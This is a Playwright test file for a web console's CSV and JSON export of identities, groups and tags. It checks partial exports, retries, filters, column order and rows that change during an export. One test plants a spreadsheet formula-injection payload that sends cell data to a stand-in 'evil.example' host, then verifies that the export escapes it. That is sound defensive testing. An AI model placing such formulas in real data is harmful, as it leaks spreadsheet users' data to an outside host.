import type { Download, Page } from "@playwright/test";
import { readFile } from "node:fs/promises";

import type { Group } from "platform-contract/iam/groups";
import type { Identity } from "platform-contract/iam/identities";

import { fault, ownService, test as throughProxy } from "../faulty";
import { expect, test } from "../fixtures";
import { allOf, chooseTool, createAll, hasNoFinding, machine, openFilters, searchList } from "../lists";
import { param } from "../records";
import { createRepo, createTags, digestOf, names, NO_IMAGE, scanLine } from "../tags";

const textOf = async (download: Download): Promise<string> => readFile(await download.path(), "utf8");

/** Exports the list on screen as CSV; returns its header, its rows, and the dialog's text. */
async function exported(page: Page) {
  const [file] = await Promise.all([page.waitForEvent("download"), chooseTool(page, "Export CSV")]);
  const dialog = page.getByRole("dialog", { name: "Export tags as CSV" });
  await expect(dialog.getByText(/rows? downloaded/)).toBeVisible();
  const about = (await dialog.textContent()) ?? "";
  await dialog.getByRole("button", { name: "Close" }).last().click();
  const [head = "", ...lines] = (await textOf(file)).trimEnd().split("\r\n");
  return { about, head: head.split(","), lines: lines.map((line) => line.split(",")) };
}

/** The values of one column. */
const column = ({ head, lines }: Awaited<ReturnType<typeof exported>>, title: string) =>
  lines.map((line) => line[head.indexOf(title)]);

throughProxy(
  "an export has every row of the list in its order, a page that failed included, or says that it is partial @long",
  ownService,
  async ({ faulty }) => {
    // The setup alone sends hundreds of requests.
    throughProxy.slow();
    const { page, api, organization, open, proxy } = faulty;
    const names = Array.from({ length: 230 }, (_, index) => `m-${String(index).padStart(3, "0")}`);
    await createAll(
      api,
      `/iam/v2/identities/${organization.uid}`,
      names.map((name) => machine(name)),
    );
    const truth = await allOf<Identity>(api, "identities", {
      "uidp.descendants_of": organization.uid,
      order_by: "name desc",
    });
    expect(truth).toHaveLength(230);
    await open(`identities?group=${organization.uid}&order=name+desc`);
    await expect(page.getByRole("link", { name: "m-229" })).toBeVisible();
    await page.getByRole("button", { name: "Choose columns" }).click();
    await page.getByRole("checkbox", { name: "Type" }).uncheck();
    await page.keyboard.press("Escape");

    const second = {
      path: /\/identities$/,
      when: ({ query }: { query: URLSearchParams }) => query.has("page_token"),
    };
    const refused = proxy.rule(second, fault.status(403), { times: 1 });
    await chooseTool(page, "Export CSV");
    const dialog = page.getByRole("dialog", { name: "Export identities as CSV" });
    await expect(
      dialog.getByText("Name, Matches, Last seen, Folder, Keys expire, Created, uid"),
    ).toBeVisible();
    await refused.met();
    await expect(dialog.getByText("Stopped: 200 of 230 rows read. The fault proxy says 403.")).toBeVisible();
    await expect(dialog).toContainText("prefixed with an apostrophe");
    await hasNoFinding(page, "dialog[open]");
    const [half] = await Promise.all([
      page.waitForEvent("download"),
      dialog.getByRole("button", { name: "Download partial file" }).click(),
    ]);
    const day = new Date().toISOString().slice(0, 10);
    expect(half.suggestedFilename()).toBe(`identities-${organization.name}-partial-${day}.csv`);
    expect((await textOf(half)).trimEnd().split("\r\n")).toHaveLength(201);

    // A transient fault: the retry succeeds, and the export is complete.
    const cut = proxy.rule(second, fault.cutBefore, { times: 1 });
    const [whole] = await Promise.all([
      page.waitForEvent("download"),
      dialog.getByRole("button", { name: "Continue" }).click(),
    ]);
    await cut.met();
    expect(whole.suggestedFilename()).toBe(`identities-${organization.name}-${day}.csv`);
    await expect(dialog.getByText("230 of 230 rows read.")).toBeVisible();
    const [head, ...lines] = (await textOf(whole)).trimEnd().split("\r\n");
    expect(head).toBe("\uFEFFName,Matches,Last seen,Folder,Keys expire,Created,uid");
    expect(lines).toEqual(
      truth.map(({ name, uid, createTime }) =>
        [name, name, "never", organization.name, "", createTime, uid].join(","),
      ),
    );
    await dialog.getByRole("button", { name: "Close" }).last().click();
    await expect(page.getByRole("button", { name: "More for this list" })).toBeFocused();

    // A filter that runs in the browser also applies to the export.
    await searchList(page, "-02");
    await expect(page.getByText("10 of 230 identities", { exact: true }).first()).toBeVisible();
    const slow = proxy.rule(second, fault.none, { hold: "answer" });
    const [json] = await Promise.all([
      page.waitForEvent("download"),
      (async () => {
        await chooseTool(page, "Export JSON");
        const running = page.getByRole("dialog", { name: "Export identities as JSON" });
        await expect(running.getByText("200 of 230 rows read, 0 match")).toBeVisible();
        await running.getByRole("button", { name: "Stop" }).press("Enter");
        await expect(running.getByRole("button", { name: "Resume" })).toBeFocused();
        await expect(running.getByText(/^Stopped: 200 of 230 rows read, no match in these\./)).toBeVisible();
        slow.remove();
        await running.getByRole("button", { name: "Resume" }).click();
      })(),
    ]);
    expect(json.suggestedFilename()).toBe(`identities-${organization.name}-${day}.json`);
    expect(JSON.parse(await textOf(json))).toEqual(truth.filter(({ name }) => name.includes("-02")));
  },
);

test("a file of groups has the names above each, and no cell that a spreadsheet would run", async ({
  person,
}) => {
  const { page, api, organization, open } = person;
  const evil = '=HYPERLINK("https://evil.example/?"&A1,"open")';
  const outer = await api.post<Group>(`/iam/v2/groups/${organization.uid}`, { name: "outer" });
  const inner = await api.post<Group>(`/iam/v2/groups/${outer.uid}`, { name: "inner", description: evil });
  await open(`groups?group=${param(outer)}`);
  await expect(page.getByRole("link", { name: "inner" })).toBeVisible();
  const [file] = await Promise.all([page.waitForEvent("download"), chooseTool(page, "Export CSV")]);
  expect(file.suggestedFilename()).toMatch(/^groups-outer-\d{4}-\d{2}-\d{2}\.csv$/);
  const [head, line] = (await textOf(file)).trimEnd().split("\r\n");
  expect(head).toBe("\uFEFFName,Folder,Description,Created,Updated,uid");
  expect(line).toBe(
    [
      "inner",
      `${organization.name} / outer`,
      `"'${evil.replaceAll('"', '""')}"`,
      inner.createTime,
      inner.updateTime,
      inner.uid,
    ].join(","),
  );
});

test("a file of tags has their order, filters and groups as they are on screen, and the names of their repos @long", async ({
  person,
  problems,
}) => {
  problems.allow(NO_IMAGE);
  const { page, api, organization, open } = person;
  const repo = await createRepo(api, organization.uid);
  // Wide enough for every column.
  await page.setViewportSize({ width: 1700, height: 900 });
  // Created one by one, so that the update order differs from every other order.
  for (const [name, image] of [
    ["1.9", 1],
    ["1.2", 2],
    ["latest", 1],
    ["1.10", 3],
  ] as const)
    await createTags(api, repo.uid, [{ name, digest: digestOf(image), deprecated: image === 1 }]);

  await open(`tags?group=${param(organization)}`);
  await expect.poll(() => names(page)).toEqual(["1.10", "latest", "1.2", "1.9"]);
  let file = await exported(page);
  expect(file.head).toEqual(["\uFEFFName", "Repo", "State", "Digest", "Updated", "uid"]);
  expect(file.about).toContain("Not included, because the list loads it row by row: Image size.");
  expect(column(file, "\uFEFFName")).toEqual(await names(page));
  expect(column(file, "Repo")).toEqual(Array(4).fill("python"));
  const updated = column(file, "Updated");
  expect(updated).toEqual(updated.toSorted().toReversed());

  await (await openFilters(page)).getByRole("combobox", { name: "Sort" }).selectOption("newest version");
  await page.keyboard.press("Escape");
  await expect.poll(() => names(page)).toEqual(["latest", "1.10", "1.9", "1.2"]);
  expect(column(await exported(page), "\uFEFFName")).toEqual(await names(page));

  // Filtered in the browser, in the service's order, opened from a link.
  const state = page.getByRole("combobox", { name: "State" });
  await open(`tags?repo=${param(repo)}&deprecated=yes`);
  await expect(scanLine(page)).toHaveText("2 deprecated of 4 tags");
  await expect.poll(() => names(page)).toEqual(["latest", "1.9"]);
  file = await exported(page);
  expect(file.head).toEqual(["\uFEFFName", "State", "Digest", "Updated", "uid"]);
  expect(column(file, "\uFEFFName")).toEqual(["latest", "1.9"]);

  await state.selectOption("any");
  await (await openFilters(page)).getByRole("checkbox", { name: "Group by digest" }).check();
  await page.keyboard.press("Escape");
  await expect(scanLine(page)).toHaveText("4 tags, grouped by digest");
  await page.getByRole("button", { name: "Choose columns" }).click();
  const chooser = page.getByRole("dialog", { name: "Columns" });
  const titles = await page.getByRole("columnheader").allTextContents();
  for (const title of ["Digest", "Tags", "State", "Image size", "Updated"]) {
    expect(titles).toContain(title);
    await expect(chooser.getByRole("checkbox", { name: new RegExp(`^${title}`) })).toBeVisible();
  }
  await expect(chooser.getByRole("checkbox")).toHaveCount(5);
  await chooser.getByRole("checkbox", { name: "State" }).uncheck();
  await expect(page.getByRole("columnheader", { name: "State" })).toBeHidden();
  await page.keyboard.press("Escape");
  file = await exported(page);
  expect(file.about).toContain("The file lists tags, with those of the same image together.");
  expect(file.head).toEqual(["\uFEFFDigest", "Name", "Updated", "uid"]);
  expect(column(file, "Name")).toEqual(["1.10", "1.9", "latest", "1.2"]);
  expect(column(file, "\uFEFFDigest")).toEqual([3, 1, 1, 2].map(digestOf));
});

throughProxy(
  "a tag that moves while a file is read is not missing from it, whatever its order @long",
  ownService,
  async ({ faulty, problems }) => {
    throughProxy.slow();
    problems.allow(NO_IMAGE);
    const { page, api, organization, open, proxy } = faulty;
    const repo = await createRepo(api, organization.uid);
    const oldest = { name: "oldest", digest: digestOf(1) };
    await createTags(api, repo.uid, [oldest]);
    const more = Array.from({ length: 230 }, (_, index) => ({ name: `t-${index}`, digest: digestOf(2) }));
    await createTags(api, repo.uid, more);
    await open(`tags?repo=${param(repo)}`);
    await expect(page.getByRole("link", { name: /^t-2/ }).first()).toBeVisible();
    const second = {
      path: /\/tags$/,
      when: ({ query }: { query: URLSearchParams }) => query.has("page_token"),
    };
    const slow = proxy.rule(second, fault.none, { hold: "request" });
    const [file] = await Promise.all([
      page.waitForEvent("download"),
      (async () => {
        await chooseTool(page, "Export CSV");
        await expect(page.getByText("200 of 231 rows read", { exact: true })).toBeVisible();
        await createTags(api, repo.uid, [{ ...oldest, digest: digestOf(3) }]);
        slow.remove();
      })(),
    ]);
    const [, ...lines] = (await textOf(file)).trimEnd().split("\r\n");
    expect(lines.map((line) => line.split(",")[0]).toSorted()).toEqual(
      [oldest, ...more].map(({ name }) => name).toSorted(),
    );
  },
);
